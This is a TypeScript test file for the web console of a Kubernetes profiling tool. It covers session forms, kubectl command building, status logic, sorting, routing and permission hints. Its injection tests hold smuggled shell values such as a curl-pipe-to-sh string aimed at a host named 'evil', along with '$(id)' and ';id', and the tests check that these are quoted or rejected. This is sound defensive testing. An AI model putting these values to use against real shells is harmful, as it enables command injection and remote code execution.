// What the panes decide: orders, sessions, rows, addresses, rights.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { query, view } from '../src/api/paths.ts';
import { missing, toEdit, toProfile } from '../src/api/rights.ts';
import type { Policy, Session } from '../src/api/types.ts';
import { profileLine, quoted } from '../src/lines.ts';
import { command, EMPTY, type Form, problem, toSession, willHappen } from '../src/order.ts';
import { codeIn, format, parse } from '../src/route.ts';
import { type Column, clicked, filtered, ordered } from '../src/rows.ts';
import {
  ago,
  app,
  apps,
  coverage,
  kinds,
  lastChance,
  named,
  outcome,
  progress,
  seconds,
  targets,
  throttled,
  verdict,
} from '../src/sessions.ts';

const form = (more: Partial<Form>): Form => ({
  ...EMPTY,
  namespace: 'shop',
  policy: 'ProfilingPolicy/shop',
  ...more,
});
const session = (status: object, spec: object = {}): Session => ({
  metadata: { name: 'now-1', namespace: 'shop', uid: '1', resourceVersion: '1' },
  spec: { duration: '30s', ...spec },
  status,
});

test('a form becomes a session, its command line, and a sentence', () => {
  const one = form({ app: 'Deployment/orders', kinds: ['cpu', 'wall'], note: "it's slow", frequency: '199' });
  assert.equal(problem(one), undefined);
  assert.deepEqual(toSession(one), {
    apiVersion: 'fleetprof.dev/v1alpha1',
    kind: 'ProfileSession',
    metadata: { namespace: 'shop', generateName: 'orders-now-' },
    spec: {
      policyRef: { kind: 'ProfilingPolicy', name: 'shop' },
      target: { workload: { kind: 'Deployment', name: 'orders' } },
      duration: '30s',
      profiles: ['cpu', 'wall'],
      frequencyHz: 199,
      context: { note: "it's slow" },
    },
  });
  assert.equal(
    command(one, ['--kubeconfig', '/a b', '--context', 'prod eu']),
    "kubectl fleetprof now Deployment/orders -n shop --policy shop --duration 30s --type cpu,wall --frequency 199 --note 'it'\\''s slow' --kubeconfig '/a b' --context 'prod eu'",
  );
  assert.match(
    willHappen(one, 3),
    /^Records cpu, wall of pods of Deployment\/orders \(3 can be profiled\), as many as/,
  );
  const pods = form({ policy: '', pods: 'a-1, b.2' });
  assert.deepEqual((toSession(pods) as { spec: object }).spec, {
    target: { pods: ['a-1', 'b.2'] },
    duration: '30s',
    profiles: ['cpu'],
    frequencyHz: 99,
  });
  assert.equal(command(pods, []), undefined);
  const all = form({ policy: 'ClusterProfilingPolicy/all' });
  assert.match(command(all, [])!, /now -n shop --policy cppol\/all --duration/);
  assert.match(command(form({ policy: '', pods: 'a' }), [])!, /now pod\/a -n shop --no-policy/);
  assert.match(willHappen(pods, undefined), /of 2 pods for 30s at 99 Hz.*get one attached/);
});

test('what cannot be sent is said before it is sent', () => {
  const cases: [Partial<Form>, RegExp][] = [
    [{ namespace: '' }, /namespace/],
    [{ policy: '' }, /policy, an app or pods/],
    [{ app: 'Deployment/a', pods: 'b' }, /not both/],
    [{ kinds: [] }, /at least one kind/],
    [{ duration: '9s' }, /between 10s and 6m/],
    [{ duration: '6m1s' }, /between 10s and 6m/],
    [{ duration: '30' }, /between 10s and 6m/],
    [{ frequency: '1001' }, /between 1 and 1000/],
    [{ frequency: '9.5' }, /between 1 and 1000/],
    [{ note: 'ü'.repeat(257) }, /512 bytes/],
    [{ namespace: 'shop;id' }, /"shop;id" is not a name/],
    [{ policy: '', pods: 'x;curl$' }, /"x;curl\$" is not a name/],
    [{ policy: 'ProfilingPolicy/$(id)' }, /is not a name/],
    [{ policy: 'Secret/shop' }, /is not a name/],
    [{ policy: 'shop' }, /is not a name/],
    [{ app: 'Deployment/orders;id' }, /is not a name/],
    [{ app: '--as/orders' }, /is not a name/],
    [{ app: 'orders' }, /is not a name/],
    [{ pods: Array.from({ length: 51 }, (_, at) => `p${at}`).join(' ') }, /at most 50 pods/],
  ];
  for (const [more, wanted] of cases) assert.match(problem(form(more)) ?? 'nothing', wanted);
});

test('a copied line is words to a shell, whatever the address says, and names the cluster', () => {
  const evil = "x;curl$IFSevil|sh '";
  const safe = "'x;curl$IFSevil|sh '\\'''";
  const forms: Partial<Form>[] = [
    { namespace: evil },
    { policy: `ProfilingPolicy/${evil}` },
    { app: `Deployment/${evil}` },
    { policy: '', pods: 'x;curl$IFSevil|sh' },
    { duration: evil },
  ];
  for (const more of forms) {
    const bare = command(form(more), ['--context', 'eu'])!.replaceAll(/'[^']*'|\\'/g, '');
    assert.ok(!/[;$|]/.test(bare), bare);
  }
  const one = { namespace: 'shop', name: 'orders-1', base: undefined };
  assert.equal(
    profileLine(one, ['--context', evil]),
    `kubectl fleetprof flame orders-1 -n shop -o orders-1.html --context ${safe}`,
  );
  assert.equal(
    profileLine({ ...one, base: 'orders-0' }, []),
    'kubectl fleetprof diff orders-1 -n shop --base orders-0',
  );
  for (const base of [evil, '--as=admin', '../x'])
    assert.equal(profileLine({ ...one, base }, []), undefined, base);
  assert.deepEqual(
    [quoted(''), quoted('ada@example.com'), quoted('a\nb')],
    ["''", 'ada@example.com', "'a\nb'"],
  );
});

test('collecting, late, nothing, failed and data are told apart', () => {
  const late = [{ type: 'ResultsDelayed', status: 'True', reason: '', message: '' }];
  const cases: [object, string][] = [
    [{}, 'collecting'],
    [{ phase: 'Running', samples: 5 }, 'collecting'],
    [{ phase: 'Processing', conditions: late }, 'late'],
    [{ phase: 'Succeeded', samples: 5, conditions: late }, 'data'],
    [{ phase: 'Cancelled', samples: 5 }, 'data'],
    [{ phase: 'Cancelled' }, 'nothing'],
    [{ phase: 'Failed', reason: 'NoSamples' }, 'nothing'],
    [{ phase: 'Failed', reason: 'PermissionDenied' }, 'failed'],
    [{ phase: 'Expired' }, 'failed'],
  ];
  for (const [status, wanted] of cases)
    assert.equal(outcome(session(status)), wanted, JSON.stringify(status));
});

test('a session says what it is of, how much it covers, and how far it is', () => {
  assert.equal(app(session({}, { target: { pods: ['a', 'b'] } })), 'a, b');
  assert.equal(app(session({}, { policyRef: { name: 'shop' } })), 'apps of shop');
  const targets = [
    {
      pod: 'a',
      phase: 'Succeeded',
      coverage: 97,
      throttledPercent: 0,
      symbols: { named: 80 },
      profiles: [
        { type: 'wall', samples: 1 },
        { type: 'cpu', samples: 1 },
      ],
    },
    { pod: 'b', phase: 'Succeeded', coverage: 40, throttledPercent: 35, profiles: [], symbols: { named: 0 } },
  ];
  assert.equal(coverage(session({ targets })), 40);
  assert.deepEqual(
    [throttled(session({ targets })), throttled(session({ targets: [targets[0]!] }))],
    [35, 0],
  );
  assert.equal(throttled(session({})), undefined, 'without a limit, and of older agents');
  assert.equal(named(session({ targets })), 0, 'the lowest');
  assert.equal(named(session({ targets }), 'a'), 80, 'of one pod');
  assert.equal(named(session({ targets: [{ pod: 'a', phase: 'Succeeded' }] })), undefined, 'no native code');
  assert.equal(coverage(session({})), undefined);
  assert.deepEqual(kinds(session({ targets }, { profiles: ['cpu', 'heap'] })), ['cpu', 'wall']);
  assert.equal(
    progress(session({ runningTime: '2026-01-01T00:00:00Z' }), Date.parse('2026-01-01T00:00:15Z')),
    0.5,
  );
  assert.equal(progress(session({}), 0), undefined);
  // A policy with a goal for samples may need less time than it allows, and not the same of every target.
  const runningTime = '2026-01-01T00:00:00Z';
  const at = (second: number, status: object) =>
    progress(
      session({ runningTime, ...status }, { duration: '2m' }),
      Date.parse(runningTime) + second * 1000,
    );
  const needs = (...durations: (string | undefined)[]) => ({
    targets: durations.map((effectiveDuration, n) => ({
      pod: `${n}`,
      phase: 'Capturing',
      ...(effectiveDuration === undefined ? {} : { effectiveDuration }),
    })),
  });
  assert.equal(at(15, needs('20s', '30s')), 0.5);
  assert.equal(at(15, needs('20s', undefined)), 0.125, 'one of them needs all of it');
  const many = { ...needs(undefined, undefined), shared: [{ phase: 'Capturing', effectiveDuration: '30s' }] };
  assert.equal(at(15, many), 0.5);
  assert.equal(at(12, { captureEndTime: '2026-01-01T00:00:11Z' }), 1, 'what is left is uploading');
  assert.equal(
    verdict(session({ conditions: [{ type: 'Regressed', status: 'Unknown', reason: '', message: '' }] })),
    'not decided',
  );
  assert.equal(
    lastChance(session({ captureEndTime: '2026-01-01T00:00:00Z' }, { resultDeadline: '1h' })),
    Date.parse('2026-01-01T01:00:00Z'),
  );
  assert.deepEqual([seconds('1h30m'), seconds('90s'), seconds('500ms'), seconds('x')], [5400, 90, 0.5, 0]);
  const now = Date.parse('2026-01-02T00:00:00Z');
  assert.deepEqual(
    [
      '2026-01-01T23:59:58Z',
      '2026-01-01T23:59:00Z',
      '2026-01-01T22:30:00Z',
      '2025-12-31T00:00:00Z',
      undefined,
    ].map((time) => ago(time, now)),
    ['now', '60 s ago', '90 min ago', '2 days ago', ''],
  );
});

test('an app shows its newest session with data', () => {
  const linked = {
    kind: 'Deployment',
    name: 'orders',
    pods: 1,
    linked: 1,
    state: 'Linked',
    reason: 'Linked',
  };
  const policy: Policy = {
    metadata: { name: 'shop', namespace: 'shop', uid: 'p', resourceVersion: '1' },
    spec: {},
    status: { linkedApps: [linked] },
  };
  const target = [{ pod: 'a', workload: 'Deployment/orders', phase: 'Succeeded' }];
  const old = session({ phase: 'Succeeded', samples: 1, endTime: '2026-01-01T00:00:00Z', targets: target });
  const last = session({ phase: 'Succeeded', samples: 1, endTime: '2026-01-02T00:00:00Z', targets: target });
  const failed = session({ phase: 'Failed', endTime: '2026-01-03T00:00:00Z', targets: target });
  assert.equal(apps([policy], [old, last, failed])[0]!.last, last);
  const everywhere = {
    ...policy,
    metadata: { ...policy.metadata, namespace: undefined as never },
    status: { linkedApps: [{ ...linked, namespace: 'x' }] },
  };
  const { namespace, policy: of } = apps([everywhere], [old])[0]!;
  assert.deepEqual([namespace, of.kind], ['x', 'ClusterProfilingPolicy']);
});

test('rows are filtered by all words, and those without a value come last', () => {
  interface Row {
    name: string;
    size?: number;
  }
  const columns: Column<Row>[] = [
    { id: 'name', title: 'Name', key: ({ name }) => name },
    { id: 'size', title: 'Size', key: ({ size }) => size, high: true },
  ];
  const rows: Row[] = [{ name: 'b', size: 2 }, { name: 'none' }, { name: 'a', size: 10 }];
  const names = (descending: boolean) =>
    ordered(rows, columns, { id: 'size', descending }).map(({ name }) => name);
  assert.deepEqual(
    [names(true), names(false)],
    [
      ['a', 'b', 'none'],
      ['b', 'a', 'none'],
    ],
  );
  assert.deepEqual(filtered(rows, columns, ' A 10'), [{ name: 'a', size: 10 }]);
  assert.deepEqual(clicked(columns, { id: 'name', descending: false }, 'size'), {
    id: 'size',
    descending: true,
  });
  assert.deepEqual(clicked(columns, { id: 'size', descending: true }, 'size'), {
    id: 'size',
    descending: false,
  });
});

test('an address leads to what it was made of, and an unknown one to the sessions', () => {
  const route = {
    pane: 'profile',
    namespace: 'shop',
    name: 'now-1',
    params: { q: 'a b&c?d', type: 'cpu' },
  } as const;
  assert.deepEqual(parse(format(route)), route);
  assert.equal(format({ pane: 'apps', params: { q: '' } }), '#/apps');
  for (const hash of ['', '#', '#/x', '#/profile/shop', '#/%zz', '#code=abc'])
    assert.equal(parse(hash).pane, 'sessions', hash);
  assert.deepEqual(
    [codeIn('#code=a-B_9'), codeIn('#code='), codeIn('#/code=a'), codeIn('#code=a&b')],
    ['a-B_9', undefined, undefined, undefined],
  );
});

test('a missing right names the role that has it', () => {
  const [create, profile] = toProfile('shop', { kind: 'ClusterProfilingPolicy', name: 'all' });
  assert.deepEqual(
    [create!.verb, profile!.resource, profile!.verb],
    ['create', 'clusterprofilingpolicies', 'profile'],
  );
  assert.match(
    missing(profile!, []),
    /You may not profile clusterprofilingpolicies "all" in namespace shop\. The ClusterRole fleetprof-runner/,
  );
  const [, pods] = toProfile('shop', undefined);
  assert.match(
    missing({ ...pods!, namespace: 'a;id' }, ['--context', 'eu']),
    /kubectl -n 'a;id' create .* --context eu$/,
  );
  assert.match(missing(pods!, []), /patch pods\/ephemeralcontainers .* fleetprof-attacher/);
  const [edit] = toEdit({ namespace: 'shop', name: 'all' });
  assert.match(
    missing(edit!, []),
    /You may not patch profilingpolicies "all" in namespace shop.*fleetprof-admin/,
  );
  const [fleet] = toEdit({ name: 'fleet' });
  assert.match(
    missing(fleet!, []),
    /^You may not patch clusterprofilingpolicies "fleet"\. .*kubectl create clusterrolebinding fleetprof-cluster-admin/,
  );
});

test('empty parameters are not sent', () => {
  assert.equal(query({ a: '', b: undefined }), '');
  const path = '/apis/data.fleetprof.dev/v1alpha1/namespaces/shop/profilesessions/now-1/top?pod=a%26b';
  assert.equal(view('shop', 'now-1', 'top', { pod: 'a&b', root: '' }), path);
});

test('targets have what those of their phase have in common', () => {
  const many = session({
    shared: [
      { phase: 'Succeeded', workload: 'Deployment/a', capture: 's-', profiles: [{ type: 'cpu', uri: 'x' }] },
    ],
    targets: [
      { pod: 'a', phase: 'Succeeded', capture: '1', profiles: [{ type: 'cpu', samples: 3 }] },
      { pod: 'b', phase: 'Succeeded', workload: 'Deployment/b' },
      { pod: 'c', phase: 'Failed' },
    ],
  });
  assert.deepEqual(targets(many), [
    {
      pod: 'a',
      phase: 'Succeeded',
      workload: 'Deployment/a',
      capture: '1',
      profiles: [{ type: 'cpu', samples: 3 }],
    },
    { pod: 'b', phase: 'Succeeded', workload: 'Deployment/b' },
    { pod: 'c', phase: 'Failed' },
  ]);
  assert.deepEqual(targets(session({})), []);
});

test('every field that the console reads is one of the kinds', () => {
  const crds = ['profilesessions', 'profilingpolicies']
    .map((kind) => readFileSync(`../../../crds/${kind}.yaml`, 'utf8'))
    .join('');
  const types = readFileSync('src/api/types.ts', 'utf8');
  const fields = [...types.matchAll(/(\w+)\??:/g)].map(([, field]) => field!);
  const ofKubernetes = [
    'metadata',
    'name',
    'namespace',
    'uid',
    'resourceVersion',
    'creationTimestamp',
    'labels',
    'annotations',
    'managedFields',
    'manager',
    'operation',
    'subresource',
    'fieldsV1',
    'kind',
    'spec',
    'status',
  ];
  const wanted = new Set(fields.filter((field) => !ofKubernetes.includes(field)));
  assert.ok(wanted.size > 40, `${wanted.size}`);
  assert.deepEqual(
    [...wanted].filter((field) => !new RegExp(`^ *(- )?${field}:`, 'm').test(crds)),
    [],
  );
});
